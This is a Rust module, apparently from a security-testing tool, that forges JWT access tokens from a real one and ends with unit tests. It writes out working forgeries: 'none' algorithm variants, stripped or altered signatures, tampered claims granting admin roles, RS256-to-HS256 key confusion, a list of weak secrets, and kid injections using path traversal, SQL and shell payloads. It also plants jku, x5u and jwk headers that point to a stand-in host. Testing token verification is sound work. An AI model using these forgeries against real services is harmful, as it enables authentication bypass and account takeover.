//! Forged access tokens: made from a real one, with whatever a stranger has: no key, the public key, a key of their own.

use aws_lc_rs::hmac;
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Map, Value, json};

/// Secrets that documentation and tutorials show.
const WEAK: [&str; 8] = [
    "secret",
    "changeme",
    "password",
    "fulexo",
    "jwt-secret",
    "your-256-bit-secret",
    "your-super-secret-jwt-key-minimum-64-characters-long",
    "a secret of sixty-four characters",
];

/// A real token taken apart.
pub struct TokenForger {
    header: Map<String, Value>,
    claims: Map<String, Value>,
    signature: String,
}

/// A forged token, and the fault that lets it in.
pub struct ForgedToken {
    /// The fault.
    pub fault: TokenFault,
    /// The forgery, in a few words.
    pub name: String,
    /// The token.
    pub text: String,
}

/// A fault in the verification of tokens.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum TokenFault {
    /// A token that names no algorithm is accepted.
    NoAlgorithm,
    /// The signature is not verified.
    Unverified,
    /// The public key is taken for the secret of HMAC.
    KeyConfusion,
    /// The secret is one of a well-known list.
    WeakSecret,
    /// The name of the key leads to another file or query.
    KeyName,
    /// The token brings its own key.
    OwnKey,
}

impl TokenForger {
    /// Takes a token apart. `None` if it is not a JWT.
    #[must_use]
    pub fn of(token: &str) -> Option<Self> {
        let mut parts = token.split('.');
        let mut part = || -> Option<Map<String, Value>> {
            serde_json::from_slice(&URL_SAFE_NO_PAD.decode(parts.next()?).ok()?).ok()
        };
        let (header, claims) = (part()?, part()?);
        Some(Self { header, claims, signature: parts.next()?.to_owned() })
    }

    /// Returns the lifetime that the token claims, in seconds.
    #[must_use]
    pub fn lifetime(&self) -> Option<i64> {
        Some(self.claims.get("exp")?.as_i64()? - self.claims.get("iat")?.as_i64()?)
    }

    /// Returns the forgeries. `keys` is the instance's JWK Set.
    #[must_use]
    pub fn forgeries(&self, keys: &Value) -> Vec<ForgedToken> {
        let mut forged = Vec::new();
        let mut add = |fault, name: &str, text| forged.push(ForgedToken { fault, name: name.to_owned(), text });
        let message = |header: &Map<String, Value>| format!("{}.{}", encoded(header), encoded(&self.claims));
        for algorithm in ["none", "None", "NONE", "nOnE", ""] {
            let header = self.with(&[("alg", json!(algorithm))]);
            add(TokenFault::NoAlgorithm, &format!("alg {algorithm:?}"), format!("{}.", message(&header)));
        }
        add(TokenFault::Unverified, "no signature", format!("{}.", message(&self.header)));
        add(TokenFault::Unverified, "two parts", message(&self.header));
        add(
            TokenFault::Unverified,
            "another signature",
            format!("{}.{}", message(&self.header), self.other_signature()),
        );
        for (name, value) in [
            ("sub", json!("00000000-0000-7000-8000-000000000000")),
            ("exp", json!(4_102_444_800_i64)),
            ("roles", json!(["admin"])),
            ("aud", json!("another")),
            ("iss", json!("https://another.invalid")),
        ] {
            let mut claims = self.claims.clone();
            claims.insert(name.to_owned(), value);
            let text = format!("{}.{}.{}", encoded(&self.header), encoded(&claims), self.signature);
            add(TokenFault::Unverified, &format!("another {name}"), text);
        }
        for (name, key) in public_keys(keys) {
            let header = self.with(&[("alg", json!("HS256"))]);
            add(TokenFault::KeyConfusion, &format!("HS256 with {name}"), self.signed(&header, &key));
        }
        for secret in WEAK {
            let header = self.with(&[("alg", json!("HS256"))]);
            add(TokenFault::WeakSecret, "HS256 with a well-known secret", self.signed(&header, secret.as_bytes()));
        }
        for (kid, key) in [
            ("../../../../../../dev/null", ""),
            ("/dev/null", ""),
            ("", ""),
            ("' union select 'key' -- ", "key"),
            ("x' UNION SELECT 'key';--", "key"),
            ("|echo key", "key"),
        ] {
            let header = self.with(&[("alg", json!("HS256")), ("kid", json!(kid))]);
            add(TokenFault::KeyName, &format!("kid {kid:?}"), self.signed(&header, key.as_bytes()));
        }
        let own =
            json!({"kty": "oct", "alg": "HS256", "kid": "own", "k": URL_SAFE_NO_PAD.encode("own key of a stranger")});
        for (name, value) in [
            ("jwk", own),
            ("jku", json!("https://penetration-test.invalid/jwks.json")),
            ("x5u", json!("https://penetration-test.invalid/key.pem")),
        ] {
            let header = self.with(&[("alg", json!("HS256")), ("kid", json!("own")), (name, value)]);
            add(TokenFault::OwnKey, name, self.signed(&header, b"own key of a stranger"));
        }
        forged
    }

    fn with(&self, members: &[(&str, Value)]) -> Map<String, Value> {
        let mut header = self.header.clone();
        header.extend(members.iter().map(|(name, value)| ((*name).to_owned(), value.clone())));
        header
    }

    fn signed(&self, header: &Map<String, Value>, key: &[u8]) -> String {
        let message = format!("{}.{}", encoded(header), encoded(&self.claims));
        let signature = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, key), message.as_bytes());
        format!("{message}.{}", URL_SAFE_NO_PAD.encode(signature))
    }

    /// The signature with its first digit changed: the last ones may hold bits that do not count.
    fn other_signature(&self) -> String {
        let rest: String = self.signature.chars().skip(1).collect();
        let first = if self.signature.starts_with('A') { 'B' } else { 'A' };
        format!("{first}{rest}")
    }
}

fn encoded(part: &Map<String, Value>) -> String {
    URL_SAFE_NO_PAD.encode(Value::Object(part.clone()).to_string())
}

/// Returns the public keys in each form in which a verifier may hold them.
fn public_keys(keys: &Value) -> Vec<(&'static str, Vec<u8>)> {
    let keys = keys.get("keys").and_then(Value::as_array).into_iter().flatten().take(4);
    let forms = keys.filter_map(|key| {
        let text = |name: &str| key.get(name).and_then(Value::as_str);
        let (modulus, exponent) = (text("n")?, text("e")?);
        let (n, e) = (URL_SAFE_NO_PAD.decode(modulus).ok()?, URL_SAFE_NO_PAD.decode(exponent).ok()?);
        let (spki, pkcs1) = (spki(&n, &e), sequence(&[integer(&n), integer(&e)]));
        Some([
            ("the public key in PEM", pem("PUBLIC KEY", &spki).into_bytes()),
            ("the public key in PEM, without its last line break", pem("PUBLIC KEY", &spki).trim_end().into()),
            ("the public key in PEM (PKCS#1)", pem("RSA PUBLIC KEY", &pkcs1).into_bytes()),
            ("the public key in DER", spki),
            ("the modulus", modulus.as_bytes().to_vec()),
            ("the bytes of the modulus", n),
            ("the JWK", key.to_string().into_bytes()),
        ])
    });
    forms.flatten().collect()
}

/// A SubjectPublicKeyInfo of an RSA key (RFC 3279, section 2.3.1).
fn spki(n: &[u8], e: &[u8]) -> Vec<u8> {
    // The identifier of rsaEncryption, and NULL for its parameters.
    const RSA_ENCRYPTION: [u8; 13] = [6, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 1, 1, 5, 0];
    let bits = [vec![0], sequence(&[integer(n), integer(e)])].concat();
    sequence(&[element(0x30, &RSA_ENCRYPTION), element(3, &bits)])
}

fn integer(bytes: &[u8]) -> Vec<u8> {
    let mut number = bytes.to_vec();
    if number.first().is_some_and(|first| first & 0x80 != 0) {
        number.insert(0, 0);
    }
    element(2, &number)
}

fn sequence(elements: &[Vec<u8>]) -> Vec<u8> {
    element(0x30, &elements.concat())
}

/// An element in DER.
fn element(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = content.len();
    let mut bytes = vec![tag];
    match u8::try_from(length) {
        Ok(short @ ..=127) => bytes.push(short),
        Ok(_) | Err(_) => {
            let digits: Vec<u8> = length.to_be_bytes().into_iter().skip_while(|byte| *byte == 0).collect();
            bytes.push(0x80 | u8::try_from(digits.len()).unwrap_or(8));
            bytes.extend(digits);
        }
    }
    bytes.extend(content);
    bytes
}

fn pem(label: &str, der: &[u8]) -> String {
    let digits: Vec<char> = STANDARD.encode(der).chars().collect();
    let lines: Vec<String> = digits.chunks(64).map(|line| line.iter().collect()).collect();
    format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", lines.join("\n"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn token() -> String {
        let part = |value: Value| URL_SAFE_NO_PAD.encode(value.to_string());
        format!("{}.{}.AAAA", part(json!({"alg": "RS256", "kid": "k"})), part(json!({"iat": 100, "exp": 3_700})))
    }

    #[test]
    fn no_forgery_is_the_token_itself_and_each_fault_has_some() {
        let forger = TokenForger::of(&token()).unwrap();
        assert_eq!(forger.lifetime(), Some(3_600));
        let keys = json!({"keys": [{"kty": "RSA", "n": URL_SAFE_NO_PAD.encode([0x81; 256]), "e": "AQAB"}]});
        let forged = forger.forgeries(&keys);
        assert!(forged.iter().all(|it| it.text != token()));
        for fault in [
            TokenFault::NoAlgorithm,
            TokenFault::Unverified,
            TokenFault::KeyConfusion,
            TokenFault::WeakSecret,
            TokenFault::KeyName,
            TokenFault::OwnKey,
        ] {
            assert!(forged.iter().any(|it| it.fault == fault), "{fault:?}");
        }
    }

    #[test]
    fn what_is_no_token_is_not_taken_apart() {
        for other in ["", "a.b.c", "e30.e30", "e30"] {
            assert!(TokenForger::of(other).is_none(), "{other}");
        }
    }

    #[test]
    fn a_public_key_has_the_form_that_verifiers_read() {
        use aws_lc_rs::encoding::{AsDer, PublicKeyX509Der};
        use aws_lc_rs::rsa::{KeyPair, KeySize};
        use aws_lc_rs::signature::KeyPair as _;
        let pair = KeyPair::generate(KeySize::Rsa2048).unwrap();
        // In PKCS#1 the modulus begins after two heads and its sign.
        let modulus = &pair.public_key().as_ref()[9..265];
        let der: PublicKeyX509Der<'_> = pair.public_key().as_der().unwrap();
        assert_eq!(spki(modulus, &[1, 0, 1]), der.as_ref());
    }
}
